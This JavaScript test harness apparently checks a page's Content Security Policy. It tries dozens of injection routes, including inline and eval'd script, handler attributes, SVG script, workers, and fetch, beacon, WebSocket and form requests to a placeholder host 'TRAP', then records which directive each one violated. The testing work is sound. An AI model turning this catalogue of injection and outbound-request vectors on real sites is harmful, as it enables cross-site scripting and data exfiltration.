// What somebody who can put things into the page would try: each attempt does one thing and says whether it came about.
// Not in it: what must come of it, but for the directive of the policy that is to be violated (the test asserts both).
(async function () {
    const told = {};
    const settled = () => new Promise((done) => setTimeout(done, 120));
    const put = (name, more = {}, parent = document.body) => parent.appendChild(Object.assign(document.createElement(name), more));
    const loads = (element) => new Promise((done) => { element.onload = () => done(true); element.onerror = () => done(false); setTimeout(() => done(false), 1500); });
    const works = (promise) => Promise.race([Promise.resolve(promise).then((value) => value !== false, () => false), new Promise((done) => setTimeout(() => done(false), 1500))]);
    async function attempt(name, wanted, deed) {
        const violated = [];
        const note = (event) => violated.push(event.effectiveDirective);
        document.addEventListener('securitypolicyviolation', note);
        window.ran = false;
        let did;
        try { did = await deed(); } catch { did = false; }
        await settled();
        document.removeEventListener('securitypolicyviolation', note);
        told[name] = { wanted, violated, did: Boolean(did) || window.ran };
    }
    const url = (name) => `http://TRAP/${name}`;

    await attempt('inline script', 'script-src-elem', () => { put('script', { textContent: 'window.ran = true' }); });
    await attempt('script of a blob', 'script-src-elem', () => loads(put('script', { src: URL.createObjectURL(new Blob(['window.ran = true'])) })));
    await attempt('script of data', 'script-src-elem', () => loads(put('script', { src: 'data:text/javascript,window.ran=true' })));
    await attempt('external script', 'script-src-elem', () => loads(put('script', { src: url('script') })));
    await attempt('external module', 'script-src-elem', () => loads(put('script', { type: 'module', src: url('module') })));
    await attempt('import', '', () => works(import(url('import'))));
    await attempt('handler in an attribute', 'script-src-attr', () => { const it = put('b'); it.setAttribute('onclick', 'window.ran = true'); it.click(); });
    await attempt('handler in HTML', 'script-src-attr', () => { put('p').innerHTML = '<img src="data:," onerror="window.ran = true">'; });
    await attempt('script in a picture', '', () => { put('p').innerHTML = '<svg><script>window.ran = true</' + 'script></svg>'; });
    await attempt('javascript: link', 'script-src-elem', () => { put('a', { href: 'javascript:window.ran=true' }).click(); });
    await attempt('eval', 'script-src', () => { (0, eval)('window.ran = true'); });
    await attempt('Function', 'script-src', () => { new Function('window.ran = true')(); });
    await attempt('text as a timer', 'script-src', () => { setTimeout('window.ran = true', 0); });
    await attempt('worker of a blob', 'worker-src', () => works(new Promise((done, fail) => { const it = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); it.onmessage = done; it.onerror = fail; })));
    await attempt('worker', '', () => works(new Promise((done, fail) => { const it = new Worker(url('worker')); it.onmessage = done; it.onerror = fail; })));

    await attempt('inline style', 'style-src-elem', () => { put('i', { id: 'styled' }); put('style', { textContent: '#styled { position: fixed }' }); return getComputedStyle(styled).position === 'fixed'; });
    await attempt('style in an attribute', 'style-src-attr', () => { const it = put('i'); it.setAttribute('style', 'position: fixed'); return getComputedStyle(it).position === 'fixed'; });
    await attempt('external style', 'style-src-elem', () => loads(put('link', { rel: 'stylesheet', href: url('style') })));
    await attempt('font', 'font-src', () => works(new FontFace('smuggled', `url(${url('font')})`).load()));

    await attempt('picture', 'img-src', () => loads(put('img', { src: url('picture') })));
    await attempt('background', 'img-src', () => { put('i').style.background = `url(${url('background')})`; });
    await attempt('icon', '', () => { put('link', { rel: 'icon', href: url('icon') }, document.head); });
    await attempt('sound', 'media-src', () => { put('audio', { src: url('sound') }).load(); });
    await attempt('film', 'media-src', () => { put('video', { src: url('film') }).load(); });
    await attempt('prefetch', '', () => { put('link', { rel: 'prefetch', href: url('prefetch') }, document.head); });
    await attempt('preload', '', () => { put('link', { rel: 'preload', as: 'fetch', href: url('preload') }, document.head); });
    await attempt('preconnect', '', () => { put('link', { rel: 'preconnect', href: url('') }, document.head); });
    await attempt('fetch', 'connect-src', () => works(fetch(url('fetch'), { mode: 'no-cors' })));
    await attempt('request', 'connect-src', () => works(new Promise((done, fail) => { const it = new XMLHttpRequest(); it.onload = done; it.onerror = fail; it.open('GET', url('request')); it.send(); })));
    await attempt('beacon', 'connect-src', () => { navigator.sendBeacon(url('beacon'), 'x'); });
    await attempt('socket', 'connect-src', () => works(new Promise((done, fail) => { const it = new WebSocket('ws://TRAP/'); it.onopen = done; it.onerror = fail; })));
    await attempt('event source', 'connect-src', () => works(new Promise((done, fail) => { const it = new EventSource(url('events')); it.onopen = done; it.onerror = fail; })));
    await attempt('ping', '', () => { put('a', { href: '#', ping: url('ping') }).click(); });
    await attempt('peer', '', () => typeof RTCPeerConnection !== 'undefined');

    await attempt('frame', 'frame-src', () => { put('iframe', { src: url('frame') }); });
    await attempt('frame of text', '', () => { put('iframe', { srcdoc: '<script>parent.ran = true</' + 'script>' }); });
    await attempt('object', 'object-src', () => { put('object', { data: url('object') }); });
    await attempt('embed', 'object-src', () => { put('embed', { src: url('embed') }); });
    await attempt('form', 'form-action', () => { put('form', { action: url('form') }).submit(); });
    await attempt('form by POST', 'form-action', () => { put('form', { action: url('post'), method: 'post', target: '_blank' }).submit(); });
    await attempt('base', 'base-uri', () => { put('base', { href: url('') }, document.head); return document.baseURI.startsWith('http'); });
    await attempt('manifest', '', () => { put('link', { rel: 'manifest', href: url('manifest') }, document.head); });
    await attempt('download', '', () => { put('a', { href: 'data:application/octet-stream,x', download: 'smuggled.txt' }).click(); });
    return told;
})
